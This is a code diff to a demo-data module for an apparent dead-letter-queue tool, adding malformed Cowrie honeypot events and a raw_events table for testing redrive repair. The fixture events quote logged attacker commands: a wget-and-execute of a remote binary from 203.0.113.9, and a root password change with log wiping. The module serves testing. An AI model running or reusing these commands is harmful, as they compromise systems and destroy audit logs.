@@ -24,7 +24,7 @@ import random
 import uuid
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
-from typing import Any
+from typing import Any, Literal
 
 from sqlalchemy import Connection, Engine, text
 
@@ -202,6 +202,244 @@ def _hostile_payload(row: HostileRow) -> str:
     if row.name == "deep_nesting":
         return _deep_payload()
     return row.payload
+
+
+# --- the pipeline's raw_events (where a redrive writes) ----------------------------------------------------
+
+RawEventsKey = Literal["constraint", "index", "both"]
+
+
+def create_raw_events(conn: Connection, *, timestamp: str = "timestamptz", key: RawEventsKey = "both") -> None:
+    """raw_events as the pipeline creates it (for the demo, tests and benchmarks: dlq-tui never creates it in a
+    real database). timestamp="varchar" gives the shape before the pipeline's v12; key says how uniqueness is kept
+    (older databases have only the index, newer ones the constraint, many both)."""
+    stamp = {"timestamptz": "TIMESTAMP WITH TIME ZONE", "varchar": "VARCHAR(64)"}[timestamp]
+    constraint = (
+        ",\n    CONSTRAINT uq_raw_events_source_offset UNIQUE (source, source_inode, source_generation, source_offset)"
+        if key in ("constraint", "both")
+        else ""
+    )
+    conn.execute(
+        text(
+            f"""
+            CREATE TABLE raw_events (
+                id SERIAL PRIMARY KEY,
+                ingest_id VARCHAR(64),
+                ingest_at TIMESTAMP WITH TIME ZONE NOT NULL DEFAULT now(),
+                source VARCHAR(512) NOT NULL,
+                source_offset BIGINT,
+                source_inode VARCHAR(128),
+                source_generation INTEGER NOT NULL DEFAULT 0,
+                payload JSON NOT NULL,
+                payload_hash VARCHAR(64),
+                risk_score INTEGER,
+                quarantined BOOLEAN NOT NULL DEFAULT false,
+                session_id VARCHAR(64),
+                event_type VARCHAR(128),
+                event_timestamp {stamp}{constraint}
+            )
+            """
+        )
+    )
+    if key in ("index", "both"):
+        conn.execute(
+            text(
+                "CREATE UNIQUE INDEX uq_raw_events_source_gen"
+                " ON raw_events (source, source_inode, source_generation, source_offset)"
+            )
+        )
+
+
+# --- parse failures a redrive can and cannot repair ------------------------------------------------------
+
+REDRIVE_INGEST_PREFIX = "demo-redrive-"
+REDRIVE_SOURCE = "/var/log/cowrie/cowrie.json.2024-03-11"
+REDRIVE_INODE = "3407881"  # the loader's inode of REDRIVE_SOURCE, on its raw_events rows
+_LOADER_OFFSET = 5_000_000  # the loader's own rows sit far from the dead letters' offsets
+
+
+def _cowrie(eventid: str, session: str, second: int, **fields: Any) -> dict[str, Any]:
+    """A Cowrie event in Cowrie's own key order (eventid first, then its fields, then the common ones)."""
+    stamp = datetime(2024, 3, 11, 4, 12, tzinfo=UTC) + timedelta(seconds=second, microseconds=second * 7919)
+    return {
+        "eventid": eventid,
+        **fields,
+        "sensor": "hp-eu-1",
+        "timestamp": stamp.isoformat().replace("+00:00", "Z"),
+        "src_ip": "198.51.100.23",
+        "session": session,
+    }
+
+
+def _redrive_contents() -> dict[str, tuple[str, str | dict[str, Any]]]:
+    """name -> (reason, malformed_content text, or the event itself for a validation row)."""
+    login = _cowrie(
+        "cowrie.login.success",
+        "5c2d9e71a0b4",
+        1,
+        username="pi",
+        password="raspberry",
+        message="login attempt [pi/raspberry] succeeded",
+    )
+    command = _cowrie(
+        "cowrie.command.input",
+        "5c2d9e71a0b4",
+        4,
+        input="cd /tmp; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
+        message="CMD: cd /tmp; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
+    )
+    connect = _cowrie(
+        "cowrie.session.connect",
+        "a81f03c6d2e9",
+        9,
+        src_port=50122,
+        dst_ip="10.0.0.5",
+        dst_port=22,
+        protocol="ssh",
+        message="New connection: 198.51.100.23:50122 (10.0.0.5:22)",
+    )
+    closed = _cowrie(
+        "cowrie.session.closed", "a81f03c6d2e9", 70, message="Connection lost after 61.2 seconds", duration=61.2
+    )
+    download = _cowrie(
+        "cowrie.session.file_download",
+        "77be10f4c3a2",
+        30,
+        url="http://203.0.113.9/x.sh",
+        shasum="9dbdb2914d49ad587b937304860747072037ac880b77832c2a5b8075e0cf372b",
+        message="Downloaded URL (http://203.0.113.9/x.sh)",
+    )
+    chpasswd = {
+        "eventid": "cowrie.command.input",
+        "session": "77be10f4c3a2",
+        "timestamp": "2024-03-11T04:12:41.000412Z",
+        "src_ip": "198.51.100.23",
+        "sensor": "hp-eu-1",
+        "input": "echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
+        "message": "CMD: echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
+    }
+    # Raw control characters inside a string (Cowrie logs what the attacker typed): not JSON, yet repairable.
+    escapes = _cowrie(
+        "cowrie.command.input",
+        "e4d3c2b1a0f9",
+        50,
+        input="echo " + SET_TITLE + " " + RICH_MARKUP + " " + BIDI_OVERRIDE,
+        message="CMD: echo",
+    )
+    escapes_line = json.dumps(escapes, ensure_ascii=False).replace("\\u001b", "\x1b").replace("\\u0007", "\x07")
+    chp = json.dumps(chpasswd)
+    return {
+        "validation_row": ("schema_validation_failed", login),
+        "cut_after_comma": ("truncated_line", chp[: chp.index('history -c",') + len('history -c",')]),
+        "trailing_comma": ("json_parsing_failed", json.dumps(connect)[:-1] + ",}"),
+        "log_prefix": ("json_parsing_failed", "2024-03-11T04:12:55.123Z cowrie[812]: " + json.dumps(command)),
+        "stray_bytes": ("json_parsing_failed", json.dumps(closed) + "\x00\x00"),
+        "raw_escapes": ("json_parsing_failed", escapes_line),
+        "cut_command": ("truncated_line", chp[: chp.index("| chp") + len("| chp")]),
+        "cut_session": ("truncated_line", json.dumps(download)[: json.dumps(download).index('"session": "77be') + 16]),
+        "unquoted_keys": (
+            "json_parsing_failed",
+            "{eventid: cowrie.login.success, session: 5c2d9e71a0b4, timestamp: 2024-03-11T04:12:01Z}",
+        ),
+        "no_timestamp": (
+            "schema_validation_failed",
+            json.dumps({k: v for k, v in download.items() if k != "timestamp"}),
+        ),
+        "binary_junk": ("encoding_error", "SSH-2.0-\\xff\\xfe\\x80\\x81\\x9b2J"),
+    }
+
+
+REDRIVE_NAMES: tuple[str, ...] = tuple(_redrive_contents())
+
+
+def redrive_ids(conn: Connection) -> dict[str, int]:
+    """name -> event id of each redrive demo row present in the database."""
+    rows = conn.execute(
+        text("SELECT ingest_id, id FROM dead_letter_events WHERE ingest_id LIKE :p"),
+        {"p": REDRIVE_INGEST_PREFIX + "%"},
+    )
+    return {ingest[len(REDRIVE_INGEST_PREFIX) :]: event_id for ingest, event_id in rows}
+
+
+def _redrive_rows() -> list[dict[str, Any]]:
+    rows = []
+    for n, (name, (reason, content)) in enumerate(_redrive_contents().items()):
+        offset = 2_000 + 137 * n
+        payload = (
+            _j(content)
+            if isinstance(content, dict)
+            else _j(
+                {"malformed_content": content, "parsing_timestamp": _stamp(10 * DAY + n), "original_offset": offset}
+            )
+        )
+        checksum = _checksum(payload)
+        rows.append(
+            {
+                "ingest_id": REDRIVE_INGEST_PREFIX + name,
+                "source": REDRIVE_SOURCE,
+                "source_offset": offset,
+                "reason": reason,
+                "payload": payload,
+                "metadata": _j({reason: True}),
+                "age": 6 * 3600 - n * 60,
+                "resolved": False,
+                "resolved_after": None,
+                "checksum": checksum,
+                "key": _idempotency_key(REDRIVE_SOURCE, offset, checksum),
+                "retries": 1,
+                "errors": None,
+                "attempts": None,
+                "method": None,
+                "lock": None,
+                "lock_in": None,
+                "priority": 3,
+                "classification": "format_error",
+                "last_processed": None,
+            }
+        )
+    return rows
+
+
+def _fill_raw_events(conn: Connection, sources: list[str]) -> None:
+    """raw_events of the pipeline's current shape with a few of the loader's rows per demo source (so a redrive
+    can take their inode), unless the database already has a raw_events table: that one is left alone."""
+    from dlq_tui.repair import payload_hash
+
+    if conn.execute(text("SELECT to_regclass('raw_events')")).scalar() is not None:
+        return
+    create_raw_events(conn)
+    rows = []
+    for n, source in enumerate(sorted(set(sources))):
+        inode = REDRIVE_INODE if source == REDRIVE_SOURCE else str(3_400_000 + 7_919 * n)
+        for k in range(5):
+            event = _cowrie(
+                "cowrie.session.connect",
+                f"{0xC0FFEE00 + 16 * n + k:012x}",
+                3600 * n + k,
+                src_port=40000 + k,
+                message=f"New connection: 198.51.100.23:{40000 + k}",
+            )
+            rows.append(
+                {
+                    "source": source,
+                    "offset": _LOADER_OFFSET + k,
+                    "inode": inode,
+                    "payload": json.dumps(event),
+                    "hash": payload_hash(event),
+                    "session": event["session"],
+                    "type": event["eventid"],
+                    "stamp": event["timestamp"],
+                }
+            )
+    conn.execute(
+        text(
+            "INSERT INTO raw_events (ingest_id, source, source_offset, source_inode, payload, payload_hash,"
+            " risk_score, session_id, event_type, event_timestamp)"
+            " VALUES ('demo-loader', :source, :offset, :inode, CAST(:payload AS json), :hash, 20, :session, :type,"
+            " CAST(:stamp AS timestamptz))"
+        ),
+        rows,
+    )
 
 
 # --- ordinary rows --------------------------------------------------------------------------------------
@@ -526,9 +764,14 @@ def fill_demo(engine: Engine, *, seed: int = 7, events: int = 1500) -> int:
             return 0
         hostile = _hostile_rows(rng)
         ordinary = _ordinary_rows(rng, max(0, events - len(hostile)))
+        # The redrive rows take the place of the last ordinary ones: the total stays `events`, and the random
+        # stream (so every other row, breaker and run) stays what it was.
+        redrive = _redrive_rows()[: max(0, events - len(hostile))]
+        ordinary = ordinary[: max(0, len(ordinary) - len(redrive))]
         huge = hostile_ingest_id("huge_payload")
-        conn.execute(_INSERT_EVENT, [r for r in hostile if r["ingest_id"] != huge] + ordinary)
+        conn.execute(_INSERT_EVENT, [r for r in hostile if r["ingest_id"] != huge] + ordinary + redrive)
         # 5 MB: alone, so the batch is not held up building one giant parameter set.
         conn.execute(_INSERT_EVENT, next(r for r in hostile if r["ingest_id"] == huge))
         _insert_breakers_and_runs(conn, rng)
-        return len(hostile) + len(ordinary)
+        _fill_raw_events(conn, [r["source"] for r in ordinary + redrive if r["source"]])
+        return len(hostile) + len(ordinary) + len(redrive)
